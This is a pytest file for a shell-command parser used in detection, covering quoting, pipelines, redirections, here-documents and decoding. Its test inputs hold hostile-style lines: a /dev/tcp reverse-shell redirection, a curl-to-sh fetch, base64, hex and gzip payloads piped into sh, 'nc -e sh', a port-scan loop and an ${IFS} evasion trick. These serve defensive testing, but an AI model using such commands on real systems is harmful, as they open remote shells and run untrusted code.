"""Shell text becomes the simple commands a shell would start."""

import base64
import gzip

from apps.detection.shell import Script, parse
from apps.detection.shell.model import MAX_TEXT

PACKED = base64.b64encode(gzip.compress(b"id")).decode()


def argvs(text: str) -> list[tuple[str, ...]]:
    return [command.argv for command in parse(text).commands]


def test_quotes_escapes_and_concatenation_make_one_word() -> None:
    assert argvs("""x"mr"'ig' -u\\ v $'\\x41\\n' "a $b" ''""") == [("xmrig", "-u v", "A\n", "a $b", "")]


def test_operators_separate_commands_and_comments_are_none() -> None:
    assert argvs("a; b && c || d & e\nf # g; h") == [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]


def test_pipelines_keep_their_stages_also_compound_ones() -> None:
    stages = parse("cat f | while read l; do echo $l; done | { sort; uniq; }").pipelines[-1]
    assert [[command.argv[0] for command in stage] for stage in stages] == [
        ["cat"],
        ["read", "echo"],
        ["sort", "uniq"],
    ]


def test_redirections_keep_descriptor_operator_and_target() -> None:
    command = parse("sh 5<>/dev/tcp/h/1 <&5 >&5 2>&1 &>> log").commands[0]
    assert [(r.fd, r.op, r.target) for r in command.redirects] == [
        ("5", "<>", "/dev/tcp/h/1"), ("", "<&", "5"), ("", ">&", "5"), ("2", ">&", "1"), ("", "&>>", "log"),
    ]  # fmt: skip


def test_a_redirection_of_a_compound_goes_to_everything_inside() -> None:
    commands = parse("for a in 1 2; do x; y; done > out").commands
    assert [[r.target for r in command.redirects] for command in commands] == [["out"], ["out"]]


def test_loops_are_known_with_their_values() -> None:
    command = parse("for p in 22 80 {1..9}; do nc -z h $p; done").commands[0]
    assert command.argv == ("nc", "-z", "h", "$p")
    assert (command.loops[0].variable, command.loops[0].values) == ("p", ("22", "80", "{1..9}"))


def test_keywords_functions_and_case_are_grammar_not_programs() -> None:
    text = "f() { a; }; if b; then c; elif d; then e; else g; fi; "
    text += "case $x in y) h;; *) i;; esac; until j; do k; done"
    assert [argv[0] for argv in argvs(text)] == list("abcdeghijk")


def test_keywords_are_ordinary_words_elsewhere() -> None:
    assert argvs("echo if then done fi") == [("echo", "if", "then", "done", "fi")]


def test_here_documents_are_fed_whole_and_end_at_their_delimiter() -> None:
    commands = parse("python3 - <<'END'\nprint($x)\n  END\nEND\nls").commands
    assert (commands[0].argv, commands[0].stdin) == (("python3", "-"), "print($x)\n  END")
    assert commands[1].argv == ("ls",)


def test_here_strings_and_pipes_feed_text() -> None:
    assert parse("sh <<< 'id; ls'").commands[0].stdin == "id; ls"
    assert parse("echo -e 'id\\nls' | sh").commands[1].stdin == "id\nls"


def test_text_is_decoded_on_its_way() -> None:
    assert parse("echo aWQK | base64 -d | sh").commands[2].stdin == "id\n"
    assert parse("printf 6964 | xxd -r -p | sh").commands[2].stdin == "id"
    assert parse("echo di | rev | sh").commands[2].stdin == "id"
    assert parse(f"echo {PACKED} | base64 -d | gunzip | sh").commands[3].stdin == "id"


def test_what_cannot_be_known_is_not_guessed() -> None:
    assert parse("curl -s http://h/x | sh").commands[1].stdin is None
    assert parse("cat file | base64 -d | sh").commands[2].stdin is None
    assert parse("echo not!base64 | base64 -d | sh").commands[2].stdin is None


def test_variables_are_put_in_where_known_and_stay_visible_where_not() -> None:
    assert argvs("R=h.example; export P=443; nc $R ${P} $Q ${S:-d}")[-1] == (
        "nc",
        "h.example",
        "443",
        "$Q",
        "d",
    )


def test_an_unquoted_value_is_split_and_a_quoted_one_is_not() -> None:
    assert argvs('C="ssh -N h"; $C; "$C"')[-2:] == [("ssh", "-N", "h"), ("ssh -N h",)]
    assert argvs("cat${IFS}/etc/x") == [("cat", "/etc/x")]


def test_a_counter_stays_visible_inside_its_loop() -> None:
    assert ("ping", "10.0.0.$i") in argvs("i=1; while true; do ping 10.0.0.$i; i=$((i+1)); done")


def test_brace_lists_are_words_and_sequences_stay() -> None:
    assert argvs("{nc,-e,sh}; echo a{b,c} {1..3}") == [("nc", "-e", "sh"), ("echo", "ab", "ac", "{1..3}")]


def test_substitutions_are_read_and_valued_where_possible() -> None:
    script = parse('eval "$(echo aWQ= | base64 -d)"; ls $(pwd) `id`')
    assert ("eval", "id") in [command.argv for command in script.commands]
    assert {("pwd",), ("id",)} <= {command.argv for command in script.commands}


def test_files_written_with_known_text_are_noted() -> None:
    text = "cat > a.sh <<'END'\nid\nEND\necho ls >> a.sh; echo x | tee b.sh"
    assert parse(text).written == {"a.sh": "id\nls", "b.sh": "x"} or parse(text).written["a.sh"] == "idls"


def test_a_long_text_is_read_from_both_ends_and_says_so() -> None:
    script = parse("first\n" + "#\n" * MAX_TEXT + "\nlast")
    assert script.truncated
    assert [command.argv for command in script.commands] == [("first",), ("last",)]


def test_text_that_ends_in_the_middle_is_read_as_far_as_it_goes() -> None:
    for text in (
        "a 'b",
        'a "b',
        "a $(b",
        "a `b",
        "a ${b",
        "a <<E\nb",
        "for x in",
        "a |",
        "if a; then b",
        "((",
        "a\\",
    ):
        assert isinstance(parse(text), Script)
        assert parse(text).commands or text in ("((", "for x in")
